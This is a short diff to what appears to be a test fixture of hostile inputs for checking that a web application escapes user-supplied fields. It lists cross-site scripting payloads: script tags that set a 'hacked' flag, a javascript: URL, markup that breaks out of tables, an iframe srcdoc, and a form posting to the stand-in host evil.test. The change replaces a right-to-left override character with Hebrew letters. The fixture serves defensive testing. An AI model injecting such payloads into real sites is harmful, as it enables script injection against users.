@@ -25,7 +25,7 @@ HOSTILE = Words(
     experiments=(MARKUP, ATTRIBUTES, TEMPLATE, TURNED, ENDLESS, "javascript:window.hacked=1"),
     run="<script>window.hacked=1<",
     tag="</td></table><script>window.hacked=1</script>",
-    registered="<script>window.hacked=1</script>/" + "\u202e" + "長" * 60,
+    registered="<script>window.hacked=1</script>/" + "\u05e2\u05d1\u05e8" + "長" * 60,
     reason=f"</main><iframe srcdoc='<script>parent.hacked=1</script>'>{TURNED}{ENDLESS}",
     label=f"<form action=//evil.test>{TURNED} " + "y" * 30,
     username="a" * 60 + "@+-.",
